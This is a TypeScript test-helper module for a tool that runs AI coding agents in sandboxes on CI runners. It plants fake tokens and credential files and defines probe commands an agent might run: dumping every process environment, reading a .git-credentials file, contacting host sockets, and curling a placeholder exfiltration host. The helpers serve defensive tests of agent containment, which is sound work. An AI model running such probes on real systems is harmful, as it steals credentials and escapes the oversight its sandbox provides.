import { accessSync, chmodSync, constants, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll } from 'vitest';
import { agentCliBin } from '../../sandbox/agent-clis.js';
import { ScriptedModel } from '../../sandbox/models/scripted-model.js';

// The real agent CLIs are installed outside `npm ci` (bash bin/install-agents);
// without them these tests skip with a message, and CI (YOKE_REQUIRE_AGENTS) requires them.

export function haveAgentClis(what: string): boolean {
  const missing = (['claude', 'codex'] as const).filter((b) => !agentCliBin(b));
  if (missing.length === 0) return true;
  const msg = `The ${what} are skipped: ${missing.join(' and ')} not installed. Run \`bash bin/install-agents\` to install the pinned CLIs.`;
  if (process.env.YOKE_REQUIRE_AGENTS) throw new Error(msg);
  console.warn(msg);
  return false;
}

/** A maker of temporary folders for one test file (under the temp folder, or `base`); they are removed after it. */
export function tempFolders(): (prefix: string, base?: string) => string {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
  return (prefix, base = tmpdir()) => {
    const d = mkdtempSync(join(base, prefix));
    dirs.push(d);
    return d;
  };
}

/**
 * Where a runner keeps its home and temp folder in these tests: outside /tmp, which every sandbox
 * replaces, so a test that finds them unread proves they were hidden (/var/tmp where it is writable).
 */
export function outsideTmp(): string {
  try {
    accessSync('/var/tmp', constants.W_OK);
    return '/var/tmp';
  } catch {
    return process.cwd();
  }
}

/**
 * Host sockets a test listens on, as a docker.sock would sit on a runner: one under /run (where the
 * machine lets this user write there) and one in a folder outside /tmp. Each answers `host-socket-answered`.
 */
export async function hostSockets(tmp: (prefix: string, base?: string) => string): Promise<{
  paths: string[];
  probe: string[];
  close: () => Promise<void>;
}> {
  const dirs = [tmp('yoke-probe-sock-', outsideTmp())];
  try {
    accessSync('/run', constants.W_OK);
    dirs.push(tmp('yoke-probe-sock-', '/run'));
  } catch {
    /* /run is not ours to write here: the folder outside /tmp stands for it */
  }
  const servers: Server[] = [];
  const open = new Set<Socket>();
  const paths: string[] = [];
  for (const d of dirs) {
    const path = join(d, 'host.sock');
    const server = createServer((s) => {
      open.add(s);
      s.on('close', () => open.delete(s));
      s.on('error', () => undefined).end('HTTP/1.1 200 OK\r\ncontent-length: 21\r\n\r\nhost-socket-answered\n');
    });
    await new Promise<void>((r) => server.listen(path, r));
    chmodSync(path, 0o777);
    servers.push(server);
    paths.push(path);
  }
  const probe = paths.flatMap((p) => [
    `curl -sS -m 3 --unix-socket ${p} http://host/ >> seen.txt 2>&1; echo "socket-curl=$?" >> seen.txt`,
    `node -e 'require("net").connect(${JSON.stringify(p)}).on("data",(d)=>process.stdout.write(String(d))).on("error",(e)=>console.log("node-socket-refused",e.code))' >> seen.txt 2>&1`,
    `/usr/bin/python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(${JSON.stringify(p)});s.send(b"GET / HTTP/1.0\\r\\n\\r\\n");print(s.recv(99))' >> seen.txt 2>&1; echo "socket-python=$?" >> seen.txt`,
  ]);
  return {
    paths,
    probe,
    close: async () => {
      for (const s of open) s.destroy();
      for (const s of servers) await new Promise<void>((r) => s.close(() => r()));
    },
  };
}

/** What a job's runner holds that its agent must never see: the job's token, the OIDC request, the runtime token, a run secret. */
export const JOB_SECRETS = {
  GITHUB_TOKEN: 'ghs_jobtoken0123456789abcdef',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'http://runner.invalid/oidc',
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789',
  YOKE_RUN_SECRET: 'run-secret-0123456789abcdef',
} as const;

/** A runner's home and temp folder holding a credential each, and the probe lines that try to read them, every environ, ps and an outside host. */
export function runnerWithSecrets(tmp: (prefix: string, base?: string) => string): {
  runnerHome: string;
  runnerTemp: string;
  probe: string[];
} {
  const runnerHome = tmp('yoke-probe-home-', outsideTmp());
  writeFileSync(
    join(runnerHome, '.git-credentials'),
    'https://x-access-token:ghs_credentialsfile0123456789@github.com\n',
  );
  const runnerTemp = tmp('yoke-probe-rt-', outsideTmp());
  mkdirSync(join(runnerTemp, '_runner_file_commands'));
  writeFileSync(join(runnerTemp, 'yoke-out.json'), '{"token":"ghs_runnertempfile0123456789"}');
  const probe = [
    'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > seen.txt 2>&1',
    `cat ${runnerHome}/.git-credentials ${runnerTemp}/yoke-out.json >> seen.txt 2>&1`,
    'ps -eo pid,args >> seen.txt 2>&1',
    'curl -sS -m 5 https://exfil.example/ >> seen.txt 2>&1; echo "exfil=$?" >> seen.txt',
  ];
  return { runnerHome, runnerTemp, probe };
}

/** A scripted model that never stops asking for a command, each answer billing 60,000 input and 2,000 output tokens. */
export const costlyModel = (): ScriptedModel =>
  new ScriptedModel({ script: () => ({ run: 'echo again >> loop.txt' }), usage: { input: 60_000, output: 2_000 } });

/** The run's facts as a job's step gives them to `yoke agent run`: an AFK run of issue #4 of acme/demo; `over` adds or changes. */
export const runFacts = (over: Record<string, string> = {}): Record<string, string> => ({
  YOKE_RUN_ID: 'r1',
  YOKE_RUN_KIND: 'afk_auto',
  YOKE_SUBJECT: 'issue#4',
  YOKE_DEADLINE: new Date(Date.now() + 600_000).toISOString(),
  YOKE_API_URL: 'http://yoke.invalid',
  YOKE_REPO: 'acme/demo',
  ...over,
});
